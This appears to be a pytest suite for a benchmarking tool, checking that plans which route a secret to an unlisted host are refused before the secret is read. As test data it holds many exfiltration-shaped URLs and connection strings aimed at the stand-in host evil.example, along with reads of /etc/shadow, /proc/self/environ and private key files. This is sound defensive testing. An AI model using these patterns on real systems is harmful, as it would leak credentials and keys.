"""Destinations of secrets: a plan that sends a secret to another host is refused before the secret is read.

Each attack goes through the compiler and through the function that inserts secrets; one also through the command `run`.
In `test_canary` an exporter that a secret names receives it.

An attack has the files of a plan (`plan.yaml`, and perhaps an include, a base or an inventory) and a pattern of the
refusal. K is the secret `k`, of the variable LEAK_WORD; `at` is a parameter whose value the run sets to ELSEWHERE.
FOLDER/key is a private key of mode 0600, and FOLDER/.ssh, FOLDER/pki hold one each. An attack has succeeded when an
endpoint of the run contains the canary or the key.
"""

from __future__ import annotations

import base64
import dataclasses
import os
import random
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519
from whole_run import proveout

from proveout.coordinator.agents.endpoints import SecretMissing, SecretRefused, external_endpoints, read_secret
from proveout.core.errors import PlanError
from proveout.dsl.compile.compiler import compile_plan
from proveout.dsl.plan.plan import Plan
from proveout.dsl.plan.topology import Host, Secret, System
from proveout.dsl.rules import secrets
from proveout.dsl.rules.secrets import Place, Unclear, refused_content

CANARY = "kanarek-Zx81-geheim"
ELSEWHERE = "evil.example"
Files = Mapping[str, str]

HEAD = """proveout: 1
name: leak
workloads: {q: {kind: sql, transactions: {one: {statements: {q: {sql: SELECT 1 AS x, expect_rows: 1}}}}}}
stages:
  - ladder: {workload: q, target: db, threads: [1], think: {constant: 5ms}, ramp_up: 0s, measure: 1s, ramp_down: 0s, repeat: 1}
"""
LOCAL = """topology:
  hosts: {here: {roles: [client], address: local}}
  systems: {db: {engine: sqlite, host: here, provision: embedded}}
"""
LAB = """topology:
  hosts:
    db1: {roles: [server], address: "db1.lab.example:7443"}
    c1: {roles: [client], address: "10.0.0.7:7443"}
"""
AT = "params: {at: {type: text, default: db1.lab}}\n"
INVENTORY = f"""{LAB}  systems:
    db: {{engine: postgres, host: db1, dsn: "host=db1.lab.example user=u password=${{secrets.k}}"}}
secrets: {{k: {{env: LEAK_WORD}}}}
"""
NOT_NAMED = "is not one of them|does not name the exporter"
NOT_TO = "may go to .*, not to"
UNCLEAR = "destination of a secret is not clear"
ONLY = "only be the password"
LITERAL = f"{UNCLEAR}|literal"


def capture(url: str, on: str = "here") -> str:
    return f'captures: {{c: {{kind: prometheus, on: {on}, url: "{url}", metrics: [{{name: up}}]}}}}\n'


def secret(to: str = "", *, source: str = "env: LEAK_WORD", name: str = "k") -> str:
    return f"secrets: {{{name}: {{{source}{f', to: [{to}]' if to else ''}}}}}\n"


def scraped(url: str, secrets: str, more: str = "") -> Files:
    """A plan that scrapes an exporter."""
    return {"plan.yaml": HEAD + LOCAL + secrets + capture(url) + more}


def connected(engine: str, dsn: str, to: str = "") -> Files:
    """A plan with a system at a lab's host."""
    return {"plan.yaml": f'{HEAD}{LAB}  systems: {{db: {{engine: {engine}, host: db1, dsn: "{dsn}"}}}}\n{secret(to)}'}


EXPORTERS = {
    # name: (url, hosts that the secret is for, pattern of the refusal)
    "the password of an exporter": ("http://u:K@127.0.0.1:9100/m", "", NOT_NAMED),
    "an exporter elsewhere": (f"https://u:K@{ELSEWHERE}/m", "", NOT_NAMED),
    "an exporter elsewhere, of a secret for another": (f"https://u:K@{ELSEWHERE}/m", "db1.lab.example", NOT_TO),
    "another port of the exporter's host": ("http://u:K@db1.lab:9999/m", "'db1.lab:9100'", NOT_TO),
    "the path of a url": ("http://127.0.0.1:9100/K", "127.0.0.1", ONLY),
    "the query of a url": ("http://127.0.0.1:9100/m?t=K", "127.0.0.1", ONLY),
    "the host of a url": (f"http://K.{ELSEWHERE}/m", "127.0.0.1", ONLY),
    "the port of a url": ("http://127.0.0.1:K/m", "", f"not the address|{ONLY}"),
    "the fragment of a url": ("http://127.0.0.1/m#K", "", "not the address"),
    "two @ in a url": (f"http://u:K@db1.lab@{ELSEWHERE}/m", "db1.lab", LITERAL),
    "a backslash in a url": (f"http://u:K@{ELSEWHERE}\\\\\\\\@db1.lab/m", "db1.lab", LITERAL),
    "a name that begins as the listed one": (f"http://u:K@db1.lab.{ELSEWHERE}/m", "db1.lab", NOT_TO),
    "a name that ends as the listed one": ("http://u:K@x.db1.lab/m", "db1.lab", NOT_TO),
}
DSNS = {
    # name: (engine, dsn, pattern of the refusal)
    "another host": ("postgres", f"host={ELSEWHERE} user=u password=K", NOT_NAMED),
    "an address beside the host": ("postgres", "host=db1 hostaddr=203.0.113.7 password=K", NOT_NAMED),
    "a second host": ("postgres", f"host=db1,{ELSEWHERE} password=K", NOT_NAMED),
    "a host that comes again": ("postgres", f"host=db1 host={ELSEWHERE} password=K", NOT_NAMED),
    "a host in quotes": ("postgres", "host = 'evil\\\\.example' password=K", NOT_NAMED),
    "a service of libpq": ("postgres", "host=db1 service=x password=K", UNCLEAR),
    "a string in the database's name": ("postgres", f"dbname='host={ELSEWHERE}' password=K", UNCLEAR),
    "the host of a dsn": ("postgres", f"host=K.{ELSEWHERE} user=u", UNCLEAR),
    "the name of the application": ("postgres", "host=db1 application_name=K", UNCLEAR),
    "the host in a uri's query": ("postgres", f"postgresql://u:K@db1/x?host={ELSEWHERE}", NOT_NAMED),
    "a percent sign in a uri's query": ("postgres", "postgresql://u:K@db1/x?host=%65vil.example", NOT_NAMED),
    "a second host of a uri": ("postgres", f"postgresql://u:K@db1,{ELSEWHERE}/x", NOT_NAMED),
    "two @ in a uri": ("postgres", f"postgresql://u:K@db1@{ELSEWHERE}/x", LITERAL),
    "the query of a uri": ("postgres", "postgresql://u@db1/x?application_name=K", UNCLEAR),
    "mysql elsewhere": ("mysql", f"mysql://u:K@{ELSEWHERE}:3306/x", NOT_NAMED),
    "oracle elsewhere": ("oracle", f"u/K@//{ELSEWHERE}:1521/X", NOT_NAMED),
    "oracle's second host": ("oracle", f"u/K@//db1:1521,{ELSEWHERE}:1521/X", NOT_NAMED),
    "oracle by an alias": ("oracle", "u/K@EVIL", NOT_NAMED),
    "oracle by a proxy": ("oracle", f"u/K@//db1/X?https_proxy={ELSEWHERE}", UNCLEAR),
    "oracle by a descriptor": ("oracle", f"u/K@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST={ELSEWHERE})(PORT=1)))", NOT_NAMED),
    "a descriptor's proxy": ("oracle", f"u/K@(DESCRIPTION=(ADDRESS=(HTTPS_PROXY={ELSEWHERE})(HOST=db1)(PORT=1)))", UNCLEAR),
    "oracle's connect string": ("oracle", "u/K@//db1/K", UNCLEAR),
    "a configuration that oracle fetches": ("oracle", f"u/K@config-http://{ELSEWHERE}/x", f"{UNCLEAR}|{NOT_NAMED}"),
    "timesten elsewhere": ("timesten", f"u/K@{ELSEWHERE}/d:timesten_client", NOT_NAMED),
}  # fmt: skip
KEYS = {
    "by its content": "FOLDER/key", "behind a link": "FOLDER/link", "behind a folder that is a link": "FOLDER/ssh-link/id",
    "in .ssh": "FOLDER/.ssh/id", "in pki": "FOLDER/pki/ca.key", "by `..`": "FOLDER/pki/../pki/ca.key",
    "by its name": "FOLDER/id_ed25519", "in Base64": "FOLDER/encoded", "in DER": "FOLDER/der", "of OpenSSH": "FOLDER/openssh",
    "of age": "FOLDER/age", "of PuTTY": "FOLDER/putty", "of a cloud's account": "FOLDER/account.json",
    "as a second name of the file": "FOLDER/hard",
}  # fmt: skip
NO_PASSWORDS = (
    "/proc/self/environ", "/proc/self/fd/0", "/dev/stdin", "/dev/fd/0", "/etc/shadow", "/sys/kernel/notes", "FOLDER/lines",
    "FOLDER/long", "FOLDER/fifo", "FOLDER/environ-link",
)  # fmt: skip
LOCAL_EXPORTER = "http://u:K@127.0.0.1:9100/"
OF_ANOTHER = f"http://u:K@{ELSEWHERE}/"


def _others() -> Iterator[tuple[str, Files, str]]:
    """Attacks by parameters, includes, bases and inventories: (name, files, pattern of the refusal)."""
    by_parameter = "http://u:K@${params.at}/m"
    yield "a key as an exporter's user", scraped(LOCAL_EXPORTER, secret(source="file: FOLDER/key")), NOT_NAMED
    header = scraped("http://127.0.0.1/m", secret())["plan.yaml"].replace("on: here,", 'on: here, headers: {X: "K"},')
    yield "a header", {"plan.yaml": header}, "unknown key `headers`|cannot be used here"
    yield "an exporter by a parameter", scraped(by_parameter, secret(), AT), NOT_NAMED
    yield "a parameter, of a secret for its default", scraped(by_parameter, secret("db1.lab"), AT), NOT_TO
    yield "the bound itself by a parameter", scraped(OF_ANOTHER, secret('"${params.at}"'), AT), "cannot be a template"
    include = {"plan.yaml": f"{HEAD}{LOCAL}include: more.yaml\n{secret()}", "more.yaml": capture(OF_ANOTHER)}
    yield "an exporter of an include", include, NOT_NAMED
    extending = f"proveout: 1\nname: leak\nextends: base.yaml\n{capture(OF_ANOTHER)}"
    yield "an exporter beside a base", {"plan.yaml": extending, "base.yaml": HEAD + LOCAL + secret("db1.lab")}, NOT_TO
    elsewhere = connected("postgres", f"host={ELSEWHERE} password=K", "db1.lab.example")
    yield "the dsn of another host, of a secret for the lab's", elsewhere, NOT_TO
    sink = f"""{HEAD}{LAB}  systems:
    db: {{engine: postgres, host: db1, propagates_to: sink, dsn: "host=db1 dbname=x password=K"}}
    sink: {{engine: postgres, host: c1, dsn: "host={ELSEWHERE} dbname=x user=u"}}
{secret()}"""
    yield "the sink that is told the source's dsn", {"plan.yaml": sink}, NOT_NAMED
    for name, plan, said in (
        (
            "an exporter that the plan names",
            secret(ELSEWHERE, name="mine") + capture(OF_ANOTHER.replace("K", "${secrets.mine}"), "c1"),
            "is not a host of the inventory",
        ),
        (
            "a system that the plan adds",
            f"""topology:
  hosts: {{evil: {{address: "{ELSEWHERE}:7443"}}}}
  systems: {{mine: {{engine: postgres, host: c1, dsn: "host={ELSEWHERE} password=K"}}}}
""",
            NOT_NAMED,
        ),
        ("a wider bound in the plan", secret(ELSEWHERE) + capture(OF_ANOTHER, "c1"), NOT_NAMED),
    ):
        yield f"{name}, with an inventory", {"inventory.yaml": INVENTORY, "plan.yaml": HEAD + plan}, said
    by_plan = {"inventory.yaml": INVENTORY.replace("db1.lab.example user=u", "${params.at}"), "plan.yaml": HEAD + AT}
    yield "the inventory's host by a parameter of the plan", by_plan, NOT_NAMED
    for name, path in KEYS.items():
        files = scraped(LOCAL_EXPORTER, secret("127.0.0.1", source=f"file: {path}"))
        yield f"a private key: {name}", files, "private key|folder of keys|not UTF-8"
    for path in NO_PASSWORDS:
        said = "where there are no passwords|more than one line|more than 4096|not a regular file|cannot be read"
        yield f"no password: {path}", scraped(LOCAL_EXPORTER, secret("127.0.0.1", source=f"file: {path}")), said
    key = scraped(LOCAL_EXPORTER, secret("127.0.0.1", source="env: LEAK_KEY"))
    yield "a private key in a variable", key, "private key"


ATTACKS: Mapping[str, tuple[Files, str]] = {
    **{name: (scraped(url, secret(to)), said) for name, (url, to, said) in EXPORTERS.items()},
    **{name: (connected(engine, dsn), said) for name, (engine, dsn, said) in DSNS.items()},
    **{name: (files, said) for name, files, said in _others()},
}


def pem(kind: str = "pem") -> bytes:
    """A private key."""
    if kind == "openssh":
        return ed25519.Ed25519PrivateKey.generate().private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.OpenSSH, serialization.NoEncryption()
        )
    encoding = serialization.Encoding.DER if kind == "der" else serialization.Encoding.PEM
    return ec.generate_private_key(ec.SECP256R1()).private_bytes(
        encoding, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Secrets and keys of a coordinator's user, each of mode 0600."""
    made = tmp_path_factory.mktemp("secrets")
    key = pem()
    contents = {
        "key": key,
        ".ssh/id": key,
        "pki/ca.key": key,
        "id_ed25519": b"password",
        "encoded": base64.b64encode(pem("der")),
        "der": pem("der"),
        "openssh": pem("openssh"),
        "age": b"AGE-SECRET-KEY-1QQQQQQQQQQQQ\n",
        "putty": b"PuTTY-User-Key-File-3: ssh-ed25519\n",
        "account.json": b'{"private_key": "x"}',
        "lines": b"root:x:0\nbin:x:1\n",
        "long": b"a" * 5000,
    }
    for name, content in contents.items():
        file = made / name
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(content)
        file.chmod(0o600)
    (made / "link").symlink_to("key")
    (made / "ssh-link").symlink_to(".ssh")
    (made / "environ-link").symlink_to("/proc/self/environ")
    (made / "hard").hardlink_to(made / "key")
    os.mkfifo(made / "fifo", 0o600)
    return made


def place(files: Mapping[str, str], at: Path, folder: Path) -> Path | None:
    """Write the files of an attack; return its inventory, if it has one."""
    for name, text in files.items():
        (at / name).write_text(re.sub(r"\bK\b", "${secrets.k}", text).replace("FOLDER", str(folder)))
    return at / "inventory.yaml" if "inventory.yaml" in files else None


def wrong(name: str, at: Path, folder: Path) -> str:
    """Try an attack in an empty folder; return what is wrong with its refusal, "" for nothing."""
    files, wanted = ATTACKS[name]
    at.mkdir()
    inventory = place(files, at, folder)
    overrides = {"at": ELSEWHERE} if "params.at" in "".join(files.values()) else {}
    try:
        plan = compile_plan(at / "plan.yaml", overrides=overrides, inventory=inventory)
        external_endpoints(plan, {"LEAK_WORD": CANARY, "LEAK_KEY": pem().decode()})
    except PlanError as error:
        said = "\n".join(f"{problem.where}: {problem.message}" for problem in error.problems)
        if not re.search(r"\.yaml:\d+:\d+: ", said):
            return f"without a place: {said}"
    except (SecretRefused, SecretMissing) as error:
        said = str(error)
    else:
        return "it was not refused"
    return "" if re.search(wanted, said) and CANARY not in said else f"not as {wanted!r}: {said}"


@pytest.mark.escape
def test_a_plan_that_sends_a_secret_elsewhere_is_refused(
    tmp_path: Path, folder: Path, record_property: Callable[[str, object], None]
) -> None:
    record_property("escapes", len(ATTACKS))
    found = {name: wrong(name, tmp_path / str(number), folder) for number, name in enumerate(ATTACKS)}
    assert {name: text for name, text in found.items() if text} == {}
    assert len(found) >= 60


def test_a_run_is_refused_before_it_begins(tmp_path: Path, folder: Path) -> None:
    place(ATTACKS["a private key: by its content"][0], tmp_path, folder)
    done = proveout(tmp_path, "run", "plan.yaml", "--headless", "--runs-dir", "runs").ended(2)
    assert "private key" in done.err
    assert not (tmp_path / "runs").exists()


# ---- what honest plans do --------------------------------------------------------------------------------------------

HOSTS = (
    Host(name="here", roles=(), address="local"),
    Host(name="db1", roles=(), address="db1.lab.example:7443"),
    Host(name="db2", roles=(), address="10.0.0.7:7443"),
    Host(name="db3", roles=(), address="[fd00::7]:7443"),
)


HONEST = (
    ("postgres", "host=db1.lab.example user=u password=${secrets.k}"),
    ("postgres", "host=DB1.lab.example. password='${secrets.k}' sslmode=verify-full"),
    ("postgres", "host=db1 password=${secrets.k}"),
    ("postgres", "host=db1,10.0.0.7 port=5432,5433 password=${secrets.k}"),
    ("postgres", "host=/run/postgresql password=${secrets.k}"),
    ("postgres", "host=localhost user=${secrets.k}"),
    ("postgres", "postgresql://u:${secrets.k}@db1.lab.example:5432/x?sslmode=require"),
    ("postgres", "postgresql://u:${secrets.k}@[fd00::7]:5432/x"),
    ("postgres", "postgresql://u:${secrets.k}@/x?host=%2Frun%2Fpostgresql"),
    ("postgres", "postgresql://db1/x?user=u&password=${secrets.k}"),
    ("mysql", "mysql://u:${secrets.k}@db1:3306/x?ssl_mode=required"),
    ("mysql", "mariadb://u:${secrets.k}@localhost/x?unix_socket=/run/mysqld/mysqld.sock"),
    ("oracle", "hlr/${secrets.k}@//db1.lab.example:1521/HLR"),
    ("oracle", "hlr/${secrets.k}@tcps://db1:2484/HLR?retry_count=3"),
    ("oracle", "sys as sysasm/${secrets.k}@//db1:1521/+ASM"),
    ("oracle", "u/${secrets.k}@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db1)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=X)))"),
    ("timesten", "u/${secrets.k}@db1/hlrcache:timesten_direct"),
    ("other", "scheme://u:${secrets.k}@db1/x"),
    ("other", "host=db1 password=${secrets.k}"),
)  # fmt: skip


def test_hosts_of_the_topology_do_not_need_to() -> None:
    for engine, dsn in HONEST:
        plan = plan_of(engine, dsn, Secret(name="k", kind="env", reference="W"))
        assert CANARY in external_endpoints(plan, {"W": CANARY})["db"].dsn, dsn


@pytest.mark.parametrize(
    ("engine", "dsn", "said"),
    [
        ("postgres", "host=db1.lab.example port=5432 password='K'", ""),
        ("postgres", "host=x,db1.lab.example port=1,5432 password=K", "may go to .*, not to x:1"),
        ("postgres", "host=db1.lab.example port=6432 password=K", "not to db1.lab.example:6432"),
        ("postgres", "host=db1.lab.example port=5432 port=6432 password=K", "not to db1.lab.example$"),
        ("postgres", "postgresql://u:K@db1.lab.example:5432/x", ""),
        ("postgres", "postgresql://u:K@db1.lab.example:5432/x?port=6432", "not to db1.lab.example$"),
        ("postgres", "host=db1.lab.example port=5432 password='x-K'", "literal password"),
        ("oracle", "u/K@//db1.lab.example:5432/X", ""),
        ("oracle", "u/pa/ss@//db1.lab.example:5432/X", "literal password"),
    ],
)
def test_a_port_is_part_of_a_destination_and_a_quoted_secret_does_not_count_as_a_literal(
    engine: str, dsn: str, said: str, tmp_path: Path
) -> None:
    text = connected(engine, dsn, "'db1.lab.example:5432'")["plan.yaml"]
    (tmp_path / "plan.yaml").write_text(re.sub(r"\bK\b", "${ secrets.k }", text))
    found = []
    try:
        compile_plan(tmp_path / "plan.yaml")
    except PlanError as error:
        found = [one.message for one in error.problems]
        assert "literal" not in said or not any(one.source_line for one in error.problems), "the password stands there"
    assert len(found) == (said != ""), found
    assert not said or re.search(said, found[0])


@pytest.mark.parametrize("dsn", ["postgresql://u:K@db1.lab.example/x", "u/K@//db1.lab.example/X", "password=K user=u"])
def test_a_line_that_is_shown_for_another_reason_has_no_password(dsn: str, tmp_path: Path) -> None:
    text = connected("postgres", dsn, "'db1.lab.example:5432'")["plan.yaml"]
    assert text.count(dsn) == 1
    (tmp_path / "plan.yaml").write_text(text.replace(f'{dsn}"', f'{dsn}", setings: {{}}').replace("K", "hunter2"))
    with pytest.raises(PlanError) as caught:
        compile_plan(tmp_path / "plan.yaml")
    assert [one.message for one in caught.value.problems] == ["unknown key `setings`"]
    assert "hunter2" not in caught.value.problems[0].source_line and "*******" in caught.value.problems[0].source_line


def plan_of(engine: str, dsn: str, secret: Secret) -> Plan:
    system = System(name="db", engine=engine, host="db1", dsn=dsn)
    return Plan(
        name="p", title="", parameters=(), hosts=HOSTS, systems=(system,), secrets=(secret,), workloads=(), captures=(),
        stages=(), verdicts=(),
    )  # fmt: skip


def test_the_coordinator_checks_the_compiled_plan_itself_before_it_reads_a_secret(tmp_path: Path) -> None:
    """The file does not exist, so that reading it would raise another error."""
    secret = Secret(name="k", kind="file", reference=str(tmp_path / "none"))
    plan = plan_of("postgres", "host=evil.example password=${secrets.k}", secret)
    with pytest.raises(SecretRefused, match=r"evil\.example is not one of them") as caught:
        external_endpoints(plan, {})
    assert "to: [evil.example]" in caught.value.way_out
    named = Secret(name="k", kind="env", reference="W", to=("evil.example",))
    assert CANARY in external_endpoints(dataclasses.replace(plan, secrets=(named,)), {"W": CANARY})["db"].dsn


def test_an_inventory_may_name_further_hosts(tmp_path: Path) -> None:
    files, _ = ATTACKS["an exporter that the plan names, with an inventory"]
    inventory = place(files, tmp_path, tmp_path)
    assert inventory is not None
    inventory.write_text(inventory.read_text().replace("LEAK_WORD", "LEAK_WORD, to: [db1.lab.example, evil.example]"))
    plan = compile_plan(tmp_path / "plan.yaml", inventory=inventory)
    assert "evil.example" in external_endpoints(plan, {"LEAK_WORD": CANARY})["capture:c"].dsn


PLACES = {
    "DB1.Lab": Place("db1.lab"),
    "db1:5432": Place("db1", 5432),
    "127.0.0.1:9100": Place("localhost", 9100),
    "[::1]": Place("localhost"),
    "::1": Place("localhost"),
    "::ffff:127.0.0.1": Place("localhost"),
    "[FD00:0::7]:1": Place("fd00::7", 1),
    "/run/x": Place("localhost"),
}


def test_a_place_is_normalised() -> None:
    assert {text: secrets.place(text) for text in PLACES} == PLACES


@pytest.mark.parametrize("text", ["", "*", "*.lab", "a b", "a/b", "http://x", "x:y", "x:123456", "-x", "x\n"])
def test_invalid_places_are_refused(text: str) -> None:
    with pytest.raises(Unclear):
        secrets.place(text)


RANDOM = base64.b64encode(random.Random(96).randbytes(96)).decode()


@pytest.mark.parametrize("word", ["hunter2", "a" * 200, "MIIhunter2", RANDOM, "ü:@/?#", '{"a": 1}'])
def test_passwords_are_not_taken_for_keys(word: str, tmp_path: Path) -> None:
    assert refused_content(word.encode()) == ""
    file = tmp_path / "word"
    file.write_text(f"{word}\n")
    file.chmod(0o600)
    assert read_secret(Secret(name="k", kind="file", reference=str(file)), {}) == word
